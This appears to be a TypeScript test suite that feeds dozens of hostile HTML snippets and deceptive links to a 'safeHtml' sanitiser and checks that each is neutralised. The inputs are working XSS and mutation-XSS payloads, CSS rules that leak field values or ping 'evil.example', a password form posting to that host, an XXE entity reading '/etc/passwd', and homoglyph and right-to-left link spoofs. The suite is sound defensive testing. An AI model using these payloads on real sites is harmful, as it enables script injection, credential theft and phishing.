import { hostileTexts } from 'sdk/ui/markdown/hostileTexts.fixture.ts'
import { safeHtml } from '../../plugins/scenarios/page/stage/safeHtml.ts'
import type { StyleRoom } from '../../plugins/scenarios/page/stage/safeStyle.ts'
import { type Attack, heldUnless } from './attack.ts'

const evil = 'https://evil.example'

/** What a story might try on the page it is shown in. */
const pages: readonly (readonly [name: string, html: string])[] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script in odd capitals', '<ScRiPt src=//evil.example/x.js></sCrIpT>'],
  ['a script that is never closed', '<p>a<script>alert(1)'],
  ['a picture that fails', '<img src=x onerror=alert(1)>'],
  ['a handler with a slash for a space', '<img/src=x/onerror=alert(1)>'],
  ['a handler after a form feed', '<p \u000conclick=alert(1)>x</p>'],
  ['a tracking pixel', `<img src="${evil}/pixel.gif?who=me" width=1 height=1>`],
  ['a picture with many sources', `<img srcset="${evil}/a.png 1x, ${evil}/b.png 2x">`],
  ['a picture element', `<picture><source srcset="${evil}/a.png"><img src=x></picture>`],
  ['a drawing', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['a drawing that turns into HTML', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  [
    'mathematics that turns into HTML',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['a form that moves', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
  ['a text that is no title', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['a template', '<template><script>alert(1)</script></template>'],
  ['a template with a shadow', '<div><template shadowrootmode=open><script>alert(1)</script></template></div>'],
  ['a style that covers the app', '<div style="position:fixed;inset:0;z-index:9999">Log in again</div>'],
  ['a style that sticks', '<p style="position: sticky !important; top: 0">x</p>'],
  ['a style with an address', `<p style="background:url(${evil}/p.png)">x</p>`],
  ['a style with an escaped address', `<p style="background-color:u\\72l(${evil}/p.png)">x</p>`],
  ['a style with a set of pictures', `<p style="color:image-set('${evil}/p.png' 1x)">x</p>`],
  ['a style with an expression', '<p style="color: expression(alert(1))">x</p>'],
  ['a style sheet that imports', `<style>@import url(${evil}/x.css);</style>`],
  ['a style sheet that reads fields', `<style>input[value^=a]{background:url(${evil}/?a)}</style>`],
  ['a link to a style sheet', `<link rel=stylesheet href="${evil}/x.css">`],
  ['a link to a script', '<a href="javascript:alert(1)">x</a>'],
  ['a link with an entity in its scheme', '<a href="java&Tab;script&colon;alert(1)">x</a>'],
  ['a link to data', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['a link that downloads and pings', `<a href="${evil}" ping="${evil}/ping" download>x</a>`],
  ['a frame', '<iframe src="javascript:alert(1)"></iframe>'],
  ['a frame with its own document', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'],
  ['an object', '<object data="data:text/html,<script>alert(1)</script>"></object>'],
  ['an embedded file', `<embed src="${evil}/x.swf">`],
  ['a form', `<form action="${evil}"><input name=password type=password autofocus onfocus=alert(1)></form>`],
  ['a button that sends elsewhere', '<button formaction="javascript:alert(1)" type=submit>Go</button>'],
  ['a picture that is a button', '<input type=image src=x onerror=alert(1)>'],
  ['a refresh', `<meta http-equiv=refresh content="0;url=${evil}">`],
  ['a base address', `<base href="${evil}/">`],
  ['a film', `<video src="${evil}/v.mp4" poster="${evil}/p.png" autoplay></video>`],
  ['a sound', '<audio src=x onerror=alert(1) autoplay></audio>'],
  ['a background of long ago', `<table background="${evil}/p.png"><tr><td background=x>y</table>`],
  ['names the page knows', '<img name=getElementById><a id=body name=cookie>x</a><p id=__proto__>y</p>'],
  ['a class of the app', '<p class="visually-hidden mantine-Button-root">x</p>'],
  ['words one can edit', '<p contenteditable tabindex=1 accesskey=x draggable=true>x</p>'],
  ['something that pops over', '<div popover id=x onbeforetoggle=alert(1)>y</div><button popovertarget=x>z</button>'],
  ['an element of its own', '<x-evil onfocus=alert(1) is=script>x</x-evil>'],
  ['a doctype with entities', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;'],
  ['character data', '<![CDATA[<script>alert(1)</script>]]>'],
  ['attributes of every object', '<p constructor=1 __proto__=2 style="__proto__:red;constructor:blue">x</p>'],
]

const harmless = new Set(
  'class style alt href target rel title dir lang id name value checked placeholder maxlength min max step size disabled readonly colspan rowspan scope start reversed for rows cols multiple selected label open type border cellpadding cellspacing'.split(
    ' ',
  ),
)

/** Everything in a piece of HTML that could act, fetch, or stand for something of ours. */
function dangers(html: string, room: StyleRoom): readonly string[] {
  const { content } = safeHtml(html, room)
  const place = document.createElement('div')
  place.append(content)
  return [...place.querySelectorAll('*')].flatMap((element) => {
    const name = element.localName
    const found = element.getAttributeNames().filter((attribute) => !harmless.has(attribute))
    if (
      /^(?:script|style|link|meta|base|iframe|object|embed|form|svg|math|video|audio|template|picture|source)$/.test(
        name,
      )
    )
      found.push('itself')
    if (room === 'text' && (element.id || element.hasAttribute('name'))) found.push('a name')
    if (room === 'text' && [...element.classList].some((each) => !each.startsWith('story-')))
      found.push('a class of ours')
    if (/url|fixed|sticky|expression|image-set/i.test(element.getAttribute('style') ?? '')) found.push('its style')
    const href = element.getAttribute('href')
    if (href !== null && !/^(?:https:|mailto:)/.test(href)) found.push(href)
    return found.map((each) => `<${name}> with ${each}`)
  })
}

const row =
  (area: string) =>
  ([name, html]: readonly [name: string, html: string]): Attack => ({
    id: name,
    area,
    tries: `puts ${name} into a bubble and into a pane of a story`,
    attack: () => heldUnless([...dangers(html, 'text'), ...dangers(html, 'page')].join(', ')),
  })

/** Links that lie, and what must be read of them. */
const lies: readonly (readonly [name: string, html: string, shown: string])[] = [
  [
    'a label that is another address',
    '<a href="https://evil.example/x">bank.example</a>',
    'bank.example (evil.example)',
  ],
  [
    'a label that is another address in parts',
    '<a href="https://evil.example/">bank<b>.exam</b>ple</a>',
    '(evil.example)',
  ],
  ['a label with a wide dot', '<a href="https://evil.example/">bank\uFF0Eexample</a>', '(evil.example)'],
  [
    'a label with an address of mail',
    '<a href="mailto:eve@evil.example?body=all">ada@bank.example</a>',
    '(mail to eve@evil.example)',
  ],
  [
    'a label that is turned round',
    '<a href="https://evil.example/">\u202Eelpmaxe.knab</a>',
    'elpmaxe.knab (evil.example)',
  ],
  [
    'an entity that turns the line round',
    '<a href="https://evil.example/">&#x202E;elpmaxe.knab</a>',
    'elpmaxe.knab (evil.example)',
  ],
  [
    'a label of a host whose letters pass for others',
    '<a href="https://b\u0430nk.example/">b\u0430nk.example</a>',
    '(xn--',
  ],
  ['a link that is never closed', '<p><a href="https://evil.example/">www.bank.example', '(evil.example)'],
  [
    'a link in a link',
    '<a href="https://evil.example/"><a href="https://other.example/">bank.example</a></a>',
    'other.example)',
  ],
]

const lying = lies.map(
  ([name, html, shown]): Attack => ({
    id: `lie/${name}`,
    area: 'links',
    tries: `links in a story with ${name}`,
    attack() {
      for (const room of ['text', 'page'] as const) {
        const place = document.createElement('div')
        place.append(safeHtml(html, room).content)
        const text = place.textContent ?? ''
        if (!text.includes(shown)) return { broke: `reads “${text}” (${room})` }
        if (/[\u202A-\u202E\u2066-\u2069]/.test(text)) return { broke: 'the line is turned round' }
        for (const { href, textContent } of place.querySelectorAll('a'))
          if (/[?&](?:body|subject|cc)=/i.test(href) || /^\S*bank\S*example$/.test(textContent ?? ''))
            return { broke: `${textContent} leads to ${href}` }
      }
      return 'held'
    },
  }),
)

export const attacks: readonly Attack[] = [
  ...lying,
  ...pages.map(row('pages of stories')),
  ...hostileTexts.map(row('text in a story')),
]
